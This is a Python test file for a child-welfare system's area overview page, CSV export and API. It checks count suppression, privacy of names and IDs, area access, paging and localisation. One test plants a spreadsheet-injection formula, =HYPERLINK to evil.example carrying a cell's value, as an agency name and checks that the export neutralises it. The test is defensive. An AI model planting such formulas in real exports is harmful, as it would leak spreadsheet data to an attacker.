"""The page of an area, its file and its JSON: numbers, and nothing about a child."""

from __future__ import annotations

import csv
import io

import pytest

from server.areas.pages import AT_ONCE
from server.audit.actions import SYSTEM
from server.auth.sessions import open_session
from server.people.actions import set_language
from server.people.agencies.actions import AddAgency, add_agency
from server.people.models import Agency, Child, Person
from server.people.rules import Role
from tests.areas.made import an_area, oversight, put, works_for
from tests.cast import SURNAMES, Cast


async def crowd(cast: Cast, many: int, agency: Agency | None = None) -> None:
    """So many more children in this agency, or in the cast's."""
    agency_id = (agency or cast.agency).id
    for number in range(many):
        person = await Person.create(
            agency_id=agency_id,
            role=Role.CHILD,
            name=f"Child {number} Zzyzx",
            made_at=cast.clock(),
        )
        await Child.create(
            id=person.id, agency_id=agency_id, person_id=person.id, placed_at=cast.clock()
        )


async def test_the_page_has_a_row_for_each_agency_and_hides_small_numbers(cast: Cast) -> None:
    await oversight(cast)
    await crowd(cast, 28)
    async with cast.browser_as("vera") as browser:
        shown = await browser.get("/desk/areas")
    assert shown.status_code == 200
    assert cast.agency.name in shown.text
    assert cast.other_agency.name in shown.text
    # 28, Mia and Noor; the one child of the other agency is hidden, and so is the exact sum.
    assert ">30<" in shown.text
    assert "30 or more" in shown.text
    assert "too few" in shown.text
    assert ">31<" not in shown.text


async def test_no_name_of_a_person_and_no_id_of_a_child_is_on_it(cast: Cast) -> None:
    await oversight(cast)
    await crowd(cast, 6)
    children = await Child.all().values_list("id", flat=True)
    async with cast.browser_as("vera") as browser:
        texts = [
            (await browser.get(path)).text
            for path in ("/desk/areas", "/desk/areas.csv", "/api/v1/areas")
        ]
    for text in texts:
        assert not any(name in text for name in (*SURNAMES, "Zzyzx", "Mia", "Noor", "Lia"))
        assert not any(str(id_) in text for id_ in children)


async def test_the_file_and_the_json_hide_the_same(cast: Cast) -> None:
    await oversight(cast)
    await crowd(cast, 8)
    async with cast.client_as("vera") as client:
        rows = list(csv.DictReader(io.StringIO((await client.get("/desk/areas.csv")).text)))
        told = (await client.get("/api/v1/areas")).json()
    by_name = {row["name"]: row for row in rows}
    assert by_name["North"]["children"] == "10+"
    assert by_name[cast.agency.name]["children"] == "10"
    assert by_name[cast.other_agency.name]["children"] == ""
    assert told["total"]["children"] == {"n": 10, "is_exact": False}
    figures = {row["name"]: row["figures"]["children"] for row in told["rows"]}
    assert figures == {
        cast.agency.name: {"n": 10, "is_exact": True},
        cast.other_agency.name: {"n": None, "is_exact": False},
    }


async def test_the_name_of_an_agency_is_no_formula_in_the_file(cast: Cast) -> None:
    await oversight(cast)
    await Agency.filter(id=cast.agency.id).update(name='=HYPERLINK("//evil.example/"&B2)')
    async with cast.client_as("vera") as client:
        text = (await client.get("/desk/areas.csv")).text
    names = [row["name"] for row in csv.DictReader(io.StringIO(text))]
    assert '\'=HYPERLINK("//evil.example/"&B2)' in names


async def test_a_country_opens_its_regions_and_a_region_neither_its_country_nor_its_neighbour(
    cast: Cast,
) -> None:
    land = await an_area(cast, "Land")
    north = await an_area(cast, "North", within=land)
    south = await an_area(cast, "South", within=land)
    await put(cast, cast.agency, north)
    await put(cast, cast.other_agency, south)
    await works_for(cast, "vera", land)
    await works_for(cast, "nils", north)
    async with cast.browser_as("vera") as vera, cast.browser_as("nils") as nils:
        shown = await vera.get("/desk/areas")
        assert f'href="/desk/areas?area={north.id}"' in shown.text
        below = await vera.get(f"/desk/areas?area={south.id}")
        assert cast.other_agency.name in below.text
        assert cast.agency.name not in below.text
        assert cast.agency.name in (await nils.get("/desk/areas")).text
        for path in ("/desk/areas", "/desk/areas.csv", "/api/v1/areas"):
            for area in (land, south, cast.agency):
                answer = await nils.get(f"{path}?area={area.id}")
                assert answer.status_code == 404
            assert (await vera.get(f"{path}?area=nonsense")).status_code == 422


async def test_an_area_without_agencies_says_so(cast: Cast) -> None:
    await works_for(cast, "vera", await an_area(cast, "Nowhere"))
    async with cast.browser_as("vera") as browser:
        shown = await browser.get("/desk/areas")
    assert "No agency belongs to this area yet" in shown.text
    assert "<table" not in shown.text


@pytest.mark.parametrize("language", ["fr", "ar"])
async def test_the_page_is_in_ones_own_language(cast: Cast, language: str) -> None:
    await oversight(cast)
    await set_language(cast.actor("vera"), cast.vera.id, language, cast.clock())
    cast.tokens["vera"], _ = await open_session(await Person.get(id=cast.vera.id), now=cast.clock())
    async with cast.browser_as("vera") as browser:
        shown = await browser.get("/desk/areas")
    assert f'lang="{language}"' in shown.text
    assert "Late now" not in shown.text


async def test_the_board_leads_to_the_counts(cast: Cast) -> None:
    await oversight(cast)
    async with cast.browser_as("vera") as browser:
        answer = await browser.get("/desk/")
    assert answer.status_code == 303
    assert answer.headers["location"] == "/desk/areas"


async def test_an_agency_that_has_moved_is_counted_where_it_is_at_once(cast: Cast) -> None:
    north = await oversight(cast)
    async with cast.client_as("vera") as client:
        assert len((await client.get("/api/v1/areas")).json()["rows"]) == 2
        await put(cast, cast.other_agency, None)
        told = (await client.get("/api/v1/areas")).json()
    assert [row["name"] for row in told["rows"]] == [cast.agency.name]
    assert told["id"] == str(north.id)


async def test_many_agencies_come_in_pages_each_with_the_sum_and_the_file_has_all(
    cast: Cast,
) -> None:
    north = await oversight(cast)
    more = AT_ONCE + 1
    for n in range(more):
        await Agency.create(name=f"Z {n:02}", made_at=cast.clock(), within_id=north.id)
    async with cast.browser_as("vera") as browser:
        first = (await browser.get("/desk/areas")).text
        second = (await browser.get(f"/desk/areas?page=2&area={north.id}")).text
        late = (await browser.get("/desk/areas?page=99")).text
        file = (await browser.get("/desk/areas.csv")).text
    assert f'href="/desk/areas?page=2&amp;area={north.id}"' in first
    assert "Page 1 of 2 · 28 agencies and areas" in first
    shown = [[n for n in range(more) if f"Z {n:02}<" in text] for text in (first, second)]
    assert [len(names) for names in shown] == [AT_ONCE - 2, 3]
    assert shown[0] + shown[1] == [*range(more)]
    assert all("In all" in text for text in (first, second))
    assert late.count("Z ") == second.count("Z ")
    assert all(f"Z {n:02}," in file for n in range(more))


# --- what comes and goes


async def _children_of(cast: Cast, area: Agency) -> dict[str, object]:
    """How many children Vera reads."""
    cast.tokens["vera"], _ = await open_session(cast.persons["vera"], now=cast.clock())
    async with cast.client_as("vera") as client:
        answer = await client.get("/api/v1/areas", params={"area": str(area.id)})
    of_all: dict[str, object] = answer.json()["total"]["children"]
    return of_all


async def _small_agencies(cast: Cast, area: Agency, many: int, each: int) -> list[Agency]:
    """So many agencies in the area, each with so few children."""
    agencies = []
    for number in range(many):
        small = AddAgency(name=f"Small {number}", language="en", zone="Europe/Paris")
        agencies.append(await add_agency(SYSTEM, small, cast.clock()))
        await put(cast, agencies[-1], area)
        await crowd(cast, each, agencies[-1])
    return agencies


@pytest.mark.parametrize("comes", [False, True])
async def test_a_sum_less_the_one_before_does_not_tell_who_came_or_went(
    cast: Cast, comes: bool
) -> None:
    land = await an_area(cast, "Land")
    north, south = await an_area(cast, "North", land), await an_area(cast, "South", land)
    first, *_ = await _small_agencies(cast, north, 4, 3)
    if comes:
        await put(cast, first, south)
    await works_for(cast, "vera", land)
    before = 9 if comes else 12
    assert await _children_of(cast, north) == {"n": before, "is_exact": True}
    await put(cast, first, north if comes else south)
    for days in (0, 1, 80):
        cast.clock.advance(days=days)
        for area in (north, land):
            assert await _children_of(cast, area) == {"n": None, "is_exact": False}
    cast.clock.advance(days=11)
    assert await _children_of(cast, north) == {"n": 12 if comes else 9, "is_exact": True}


async def test_a_large_agency_that_came_is_in_the_sum_at_once(cast: Cast) -> None:
    north = await an_area(cast, "North")
    await works_for(cast, "vera", north)
    await put(cast, cast.agency, north)
    await crowd(cast, 20, cast.agency)
    answer = await _children_of(cast, north)
    assert answer["is_exact"]
